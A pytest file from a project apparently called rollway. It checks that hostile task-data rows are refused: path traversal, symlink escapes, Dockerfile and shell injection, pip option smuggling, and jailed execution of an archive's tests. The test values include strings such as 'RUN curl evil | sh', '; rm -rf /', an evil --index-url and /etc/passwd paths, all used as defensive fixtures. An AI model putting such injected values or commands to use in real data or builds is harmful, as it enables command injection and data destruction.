"""Hostile task data: rows files whose fields try to leave their place (host paths, Dockerfiles, git and
pip arguments, the build's network). Every attack is refused on load, naming the task and the field, and
the host file it aimed at is unchanged. Real parts throughout: real files, a real git mirror, the real
Docker engine for image builds (tests/docker_engine.py); `rollway tasks verify` through its CLI."""

from __future__ import annotations

import argparse
import hashlib
import json
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pytest
import structlog.testing

from rollway.envs import task_data
from rollway.envs.pytest_report import pytest_command
from rollway.envs.sdist import SdistError, parse_requirement
from rollway.envs.swe import load_instances, prepare_buggy_copy
from rollway.envs.swe_images import dockerfile
from rollway.envs.swe_rows import load_swe_instances, normalise_row
from rollway.envs.task_data import TaskDataError
from rollway.runners import cmd_tasks

# ---------------------------------------------------------------- `tasks.type: swe` instances files


def _snapshot(cache: Path, files: dict[str, str]) -> dict[str, Any]:
    """A snapshot where rollway keeps them (cache/snapshots/NAME-VERSION-SHA12), as a real build leaves it."""
    sha = hashlib.sha256(json.dumps(files).encode()).hexdigest()
    path = cache / "snapshots" / f"demo-1.0-{sha[:12]}"
    for rel, text in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    return {"sdist": "demo==1.0", "archive": "demo-1.0.tar.gz", "sha256": sha, "path": str(path)}


def _row(cache: Path, **changes: Any) -> dict[str, Any]:
    row = {
        "instance_id": "demo__1.0__f__0", "repo": "demo==1.0", "base_commit": "sdist-sha256:x",
        "snapshot": _snapshot(cache, {"demo/m.py": "def f(a):\n    return a < 1\n", "tests/test_m.py": "x = 1\n"}),
        "problem_statement": "f is wrong", "FAIL_TO_PASS": ["tests/test_m.py::test_f"], "PASS_TO_PASS": [],
        "patch": "", "test_patch": "", "test_files": ["tests/test_m.py"], "python_path": ["."],
        "mutation": {"path": "demo/m.py", "start": 23, "end": 24, "original": "<", "replacement": "<=",
                     "operator": "compare", "function": "f", "line": 2},
    }  # fmt: skip
    for key, value in changes.items():
        if key == "mutation_path":
            row["mutation"]["path"] = value
        else:
            row[key] = value
    return row


def _write(path: Path, *rows: dict[str, Any]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A host file a hostile mutation aims at: `hello` at bytes 0:5, which the mutation would make `pwned`."""
    path = tmp_path / "canary.txt"
    path.write_text("hello world\n")
    return path


def _hostile_mutation(row: dict[str, Any], path: str) -> dict[str, Any]:
    row["mutation"].update(path=path, start=0, end=5, original="hello", replacement="pwned")
    return row


def test_absolute_mutation_path_is_refused_by_tasks_verify_and_the_host_file_is_untouched(
    tmp_path: Path, canary: Path
) -> None:
    cache = tmp_path / "cache"
    rows = _write(tmp_path / "i.jsonl", _hostile_mutation(_row(cache), str(canary)))
    parser = argparse.ArgumentParser()
    cmd_tasks.add_arguments(parser)
    assert cmd_tasks.run(parser.parse_args(["verify", str(rows), "--cache", str(cache), "--timeout", "30"])) == 1
    assert canary.read_text() == "hello world\n"
    with pytest.raises(TaskDataError, match=r"demo__1.0__f__0.*'mutation.path'"):
        load_instances(rows, cache)


def test_dotdot_mutation_path_is_refused_and_the_host_file_is_untouched(tmp_path: Path, canary: Path) -> None:
    cache = tmp_path / "cache"
    # From cache/buggy/.prepare-X/tree, four levels up is tmp_path: where the canary lies.
    row = _hostile_mutation(_row(cache), "../../../../canary.txt")
    with pytest.raises(TaskDataError, match=r"'mutation.path'.*'\.\.'"):
        prepare_buggy_copy(load_instances(_write(tmp_path / "i.jsonl", row), cache)[0], cache)
    assert canary.read_text() == "hello world\n"


def test_mutation_of_a_symlink_leaving_the_snapshot_is_refused(tmp_path: Path, canary: Path) -> None:
    cache = tmp_path / "cache"
    row = _hostile_mutation(_row(cache), "demo/link.py")
    (Path(row["snapshot"]["path"]) / "demo" / "link.py").symlink_to(canary)
    with pytest.raises(TaskDataError, match=r"'mutation.path'.*leads out"):
        prepare_buggy_copy(load_instances(_write(tmp_path / "i.jsonl", row), cache)[0], cache)
    assert canary.read_text() == "hello world\n"


def test_instances_converted_on_load_refuse_a_symlink_leaving_the_snapshot(tmp_path: Path, canary: Path) -> None:
    """`tasks.type: swe` on an instances file commits each bug into a git mirror (the one SWE path): the
    mutation is written into a copy of the snapshot, where a planted link would carry it to a host file."""
    from rollway.envs.config import TasksConfig
    from rollway.envs.factory import build_taskset

    cache = tmp_path / "cache"
    row = _hostile_mutation(_row(cache), "demo/link.py")
    (Path(row["snapshot"]["path"]) / "demo" / "link.py").symlink_to(canary)
    with pytest.raises(TaskDataError, match=r"'mutation.path'.*leads out"):
        build_taskset(TasksConfig(type="swe", path=str(_write(tmp_path / "i.jsonl", row)), cache_dir=str(cache)))
    assert canary.read_text() == "hello world\n"


def test_snapshot_outside_the_cache_is_refused_and_not_copied(tmp_path: Path) -> None:
    """A row naming any host folder as its snapshot would have it copied into the agent's workspace."""
    cache = tmp_path / "cache"
    secret = tmp_path / "secret"
    (secret / "demo").mkdir(parents=True)
    (secret / "demo" / "m.py").write_text("def f(a):\n    return a < 1\n")
    (secret / "id_rsa").write_text("PRIVATE KEY\n")
    row = _row(cache)
    row["snapshot"]["path"] = str(secret)
    with pytest.raises(TaskDataError, match=r"demo__1.0__f__0.*'snapshot.path'"):
        prepare_buggy_copy(load_instances(_write(tmp_path / "i.jsonl", row), cache)[0], cache)
    assert list(cache.rglob("id_rsa")) == []


@pytest.mark.parametrize(("field", "value", "match"), [
    ("instance_id", "demo\nRUN curl evil | sh", "'instance_id'.*control character"),
    ("instance_id", "../../x", "'instance_id'.*not a safe name"),
    ("FAIL_TO_PASS", ["tests/test_m.py::t\n; rm -rf /"], r"'FAIL_TO_PASS\[0\]'"),
    ("FAIL_TO_PASS", ["/etc/passwd::t"], r"'FAIL_TO_PASS\[0\]'.*relative"),
    ("test_files", ["../../etc/passwd"], r"'test_files\[0\]'"),
    ("python_path", ["/usr/lib"], r"'python_path\[0\]'"),
    ("repo", "--index-url=http://evil/==1", "'repo'"),
])  # fmt: skip
def test_unsafe_fields_of_an_instance_are_refused_on_load(tmp_path: Path, field: str, value: Any, match: str) -> None:
    rows = _write(tmp_path / "i.jsonl", _row(tmp_path / "cache", **{field: value}))
    with pytest.raises(TaskDataError, match=match):
        load_instances(rows, tmp_path / "cache")


def test_a_valid_instance_still_loads_and_prepares(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    row = load_instances(_write(tmp_path / "i.jsonl", _row(cache)), cache)[0]
    assert (prepare_buggy_copy(row, cache) / "demo" / "m.py").read_text() == "def f(a):\n    return a <= 1\n"


def test_huge_rows_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(task_data, "MAX_ROW_CHARS", 5000)
    rows = _write(tmp_path / "i.jsonl", _row(tmp_path / "cache", problem_statement="x" * 6000))
    with pytest.raises(TaskDataError, match="5000"):
        load_instances(rows, tmp_path / "cache")
    swe_rows = _write(tmp_path / "r.jsonl", {**_swebench_row(), "problem_statement": "x" * 6000})
    with pytest.raises(TaskDataError, match="5000"):
        load_swe_instances(swe_rows)


def test_sdist_requirements_that_pip_would_read_as_options_are_refused() -> None:
    for bad in ("--index-url=http://evil/==1", "demo==1.0 --pre", "demo==-e"):
        with pytest.raises(SdistError):
            parse_requirement(bad)
    assert parse_requirement("toolz==1.2.0") == ("toolz", "1.2.0")


def test_test_ids_with_shell_metacharacters_stay_arguments(tmp_path: Path) -> None:
    canary = tmp_path / "made"
    command = pytest_command([f"t.py;touch {canary}", f"$(touch {canary})"], python="true")
    subprocess.run(["bash", "-c", command], check=True, cwd=tmp_path)
    assert not canary.exists()


# ---------------------------------------------------------------- SWE-bench-schema rows (`tasks.type: swebench`)


def _swebench_row(**changes: Any) -> dict[str, Any]:
    row = {"instance_id": "owner__name-1", "repo": "owner/name", "base_commit": "a" * 40,
           "environment_setup_commit": "b" * 40, "problem_statement": "p", "patch": "", "test_patch": "",
           "FAIL_TO_PASS": '["t.py::a"]', "PASS_TO_PASS": "[]", "version": "1.0"}
    row.update(changes)
    return row


@pytest.mark.parametrize(("field", "value", "match"), [
    ("instance_id", "x\nRUN echo pwned", "'instance_id'"),
    ("repo", "../../etc", "'repo'"),
    ("repo", "owner/name\nRUN x", "'repo'"),
    ("base_commit", "--output=/etc/passwd", "'base_commit'"),
    ("version", "1.0\nRUN x", "'version'"),
    ("image_name", "img\nRUN x", "'image_name'"),
    ("repo_dir", "/testbed; rm -rf /", "'repo_dir'"),
    ("repo_dir", "/testbed/../etc", "'repo_dir'"),
    ("log_parser", "../x", "'log_parser'"),
    ("FAIL_TO_PASS", '["t.py::a\\nb"]', r"'FAIL_TO_PASS\[0\]'"),
    ("test_command", "pytest\0", "'test_command'"),
])  # fmt: skip
def test_unsafe_fields_of_a_swebench_row_are_refused(field: str, value: str, match: str) -> None:
    with pytest.raises(TaskDataError, match=match) as refused:
        normalise_row(_swebench_row(**{field: value}))
    assert field == "instance_id" or "'owner__name-1'" in str(refused.value)


def test_install_command_cannot_add_dockerfile_instructions() -> None:
    """The install command is the task's to run (in the build's sandbox), but it stays one RUN step's
    data: a newline in it must not become a Dockerfile instruction of its own."""
    text = dockerfile("base:1", "/testbed", "pip install .\nCOPY --from=evil / /\nRUN --network=host x", False,
                      {"rollway.swe.instance": 'a"b'})
    lines = text.splitlines()
    assert not any(line.startswith(("COPY --from", "RUN --network")) for line in lines), text
    assert all(line.split(" ", 1)[0] in ("FROM", "COPY", "WORKDIR", "RUN", "LABEL", "ENV") for line in lines), text


# ---------------------------------------------------------------- image builds: no network by default


def _mirror(tmp_path: Path) -> Path:
    repo = tmp_path / "mirror" / "owner__name"
    repo.mkdir(parents=True)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], check=True)
    (repo / "m.py").write_text("x = 1\n")
    subprocess.run([*git, "add", "m.py"], check=True)
    subprocess.run([*git, "commit", "-qm", "base"], check=True)
    return repo


def test_instance_images_build_without_network_unless_opted_in(tmp_path: Path) -> None:
    from docker_engine import ensure_engine

    from rollway.envs.swe_images import InstanceImages

    client = ensure_engine()
    repo = _mirror(tmp_path)
    commit = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True,
                            check=True).stdout.strip()
    # The build succeeds only when its RUN step sees no network interface but loopback.
    inst = normalise_row(_swebench_row(instance_id=f"owner__name-{uuid.uuid4().hex[:8]}", base_commit=commit,
                                       install='test "$(ls /sys/class/net)" = lo'))
    images = InstanceImages(str(tmp_path / "mirror"), "never-there-{id_docker}:x", "rollway-sandbox:bookworm",
                            client=client)
    tag = None
    try:
        tag = images.image_for(inst)
        assert tag.startswith("rollway-swe/")
    finally:
        if tag:
            client.images.remove(tag, force=True)
    with structlog.testing.capture_logs() as logs:
        InstanceImages(str(tmp_path / "mirror"), "x", "rollway-sandbox:bookworm", client=client, network="host")
    assert [e for e in logs if e["log_level"] == "warning" and "network" in e["event"]]
    with pytest.raises(ValueError, match="network"):
        InstanceImages(None, "x", "b", client=client, network="bridge; rm")


def _patch(old: str, new: str, body: str = "@@ -1 +1 @@\n-x\n+y\n") -> str:
    return f"diff --git a/{old} b/{new}\n--- a/{old}\n+++ b/{new}\n{body}"


class _CreationsSeen:
    """A Docker client that passes everything through to the real one and keeps each container or image it
    was asked to create or build."""

    def __init__(self, client) -> None:
        self._client, self.created = client, []

    def __getattr__(self, name):
        return getattr(self._client, name)

    @property
    def containers(self):
        return _Recorded(self._client.containers, "create", self.created)

    @property
    def images(self):
        return _Recorded(self._client.images, "build", self.created)


class _Recorded:
    def __init__(self, collection, verb: str, seen: list) -> None:
        self._collection, self._verb, self._seen = collection, verb, seen

    def __getattr__(self, name):
        attr = getattr(self._collection, name)
        if name != self._verb:
            return attr

        def recorded(*args, **kwargs):
            self._seen.append((name, args, kwargs))
            return attr(*args, **kwargs)

        return recorded


@pytest.mark.parametrize("pre_patch", [
    _patch("../escape.py", "../escape.py"),
    _patch("/tmp/abs.py", "/tmp/abs.py"),
    "diff --git a/m.py b/../moved.py\nsimilarity index 100%\nrename from m.py\nrename to ../moved.py\n",
    "diff --git a/../new.py b/../new.py\nnew file mode 100644\n--- /dev/null\n+++ b/../new.py\n@@ -0,0 +1 @@\n+y\n",
    _patch('q"x.py', 'q"x.py'),
])
def test_a_bug_patch_naming_files_outside_the_repository_is_refused_before_any_image_is_read(pre_patch, tmp_path):
    """A row's `pre_patch` over an image found on the engine: the files it names are read out of the image and
    patched on this host, then copied in by a derived build whose RUN line names the deleted ones. A name that
    leaves the tree (.., absolute, a rename's target) or could break out of that line is refused, naming the
    instance's bug patch, before a container is made or an image built; nothing is written beside the tree."""
    import dataclasses

    from docker_engine import ensure_engine

    from rollway.envs.swe_images import EnvPrepError, InstanceImages, apply_patch, patch_paths

    client = _CreationsSeen(ensure_engine())  # the real engine; what this code asks it to make is kept
    inst = dataclasses.replace(normalise_row(_swebench_row(instance_id=f"owner__name-{uuid.uuid4().hex[:8]}")),
                               image_name="rollway-sandbox:bookworm", repo_dir="/testbed", pre_patch=pre_patch)
    images = InstanceImages(None, "x", "rollway-sandbox:bookworm", client=client)
    with pytest.raises(EnvPrepError, match="the bug patch names the file .*not a plain path inside the repository"):
        images.image_for(inst)
    # Counted at this code's own calls, not over the engine's whole list: other tests make containers beside it.
    assert images.built == [] and client.created == []
    with pytest.raises(EnvPrepError):
        patch_paths(pre_patch)
    tree = tmp_path / "repo"  # and git itself, the second line, writes nothing beside the tree either way
    tree.mkdir()
    (tree / "m.py").write_text("x\n")
    for flags in ((), ("-R",)):
        apply_patch(tree, pre_patch, *flags)
    assert sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")) == ["repo", "repo/m.py"]


# ---------------------------------------------------------------- `rollway tasks build swe`: the archive's tests


_HOSTILE_TESTS = '''
import os, socket
from pathlib import Path

from evil import add

def test_add():
    assert add(2, 3) == 5

def test_no_host_secret():
    assert "ROLLWAY_BUILD_SECRET" not in os.environ

def test_no_network():
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    except OSError:
        return
    raise AssertionError("reached the host")

def test_no_write_outside():
    try:
        Path({canary!r}).write_text("escaped")
    except OSError:
        return
    raise AssertionError("wrote outside the tree")
'''


def test_build_runs_the_archives_tests_jailed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A source archive's own test suite runs code of the archive's author: it must run in the local jail
    (no network, nothing outside its tree, none of the host's environment). The suite probes all three and
    its verdicts land in the built row (PASS_TO_PASS); the host side is checked too."""
    import io
    import socket
    import tarfile

    from rollway.envs.swe_build import BuildOptions, build_instances

    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    canary = tmp_path / "escaped.txt"
    files = {"evil/__init__.py": "def add(a, b):\n    return a + b\n",
             "tests/test_evil.py": _HOSTILE_TESTS.format(port=server.getsockname()[1], canary=str(canary)),
             "setup.py": "from setuptools import setup\nsetup(name='evil', version='1.0')\n"}
    (tmp_path / "cache" / "sdists").mkdir(parents=True)
    with tarfile.open(tmp_path / "cache" / "sdists" / "evil-1.0.tar.gz", "w:gz") as tar:
        for rel, text in files.items():
            info = tarfile.TarInfo(f"evil-1.0/{rel}")
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    monkeypatch.setenv("ROLLWAY_BUILD_SECRET", "hunter2")
    try:
        rows = build_instances(BuildOptions(sdist="evil==1.0", max_tasks=1, cache_dir=str(tmp_path / "cache"),
                                            log=lambda line: None))
        with pytest.raises(BlockingIOError):
            server.accept()  # nobody connected
    finally:
        server.close()
    assert not canary.exists()
    assert rows[0]["FAIL_TO_PASS"] == ["tests/test_evil.py::test_add"]
    assert set(rows[0]["PASS_TO_PASS"]) == {f"tests/test_evil.py::{t}" for t in
                                            ("test_no_host_secret", "test_no_network", "test_no_write_outside")}


def test_bug_patch_cannot_write_outside_the_exported_tree(tmp_path: Path, canary: Path) -> None:
    """SWE-smith's `patch` (the bug) is applied on the host when an image is built: git apply must refuse
    paths leaving the tree, directly or through a symlink the same patch creates."""
    from rollway.envs.swe_images import EnvPrepError, export_tree

    repo = _mirror(tmp_path)
    escape = ("diff --git a/../../canary.txt b/../../canary.txt\n--- a/../../canary.txt\n+++ b/../../canary.txt\n"
              "@@ -1 +1 @@\n-hello world\n+pwned\n")
    link = ("diff --git a/lnk b/lnk\nnew file mode 120000\n--- /dev/null\n+++ b/lnk\n@@ -0,0 +1 @@\n"
            f"+{tmp_path}\n\\ No newline at end of file\n"
            "diff --git a/lnk/canary.txt b/lnk/canary.txt\n--- a/lnk/canary.txt\n+++ b/lnk/canary.txt\n"
            "@@ -1 +1 @@\n-hello world\n+pwned\n")
    for i, patch in enumerate((escape, link)):
        with pytest.raises(EnvPrepError, match="bug patch does not apply"):
            export_tree(repo, "HEAD", tmp_path / f"out{i}" / "tree", patch)
    assert canary.read_text() == "hello world\n"


def test_task_sets_refuse_hostile_rows_when_built(tmp_path: Path, canary: Path) -> None:
    """`rollway eval` and `up` build their task set from the config first: that is where a bad file stops."""
    from rollway.envs.config import TasksConfig
    from rollway.envs.factory import build_taskset

    cache = tmp_path / "cache"
    swe = _write(tmp_path / "i.jsonl", _hostile_mutation(_row(cache), str(canary)))
    with pytest.raises(TaskDataError, match="'mutation.path'"):
        build_taskset(TasksConfig(type="swe", path=str(swe), cache_dir=str(cache)))
    rows = _write(tmp_path / "r.jsonl", _swebench_row(repo="../../etc"))
    with pytest.raises(TaskDataError, match="'repo'"):
        build_taskset(TasksConfig(type="swebench", path=str(rows)))
    assert canary.read_text() == "hello world\n"
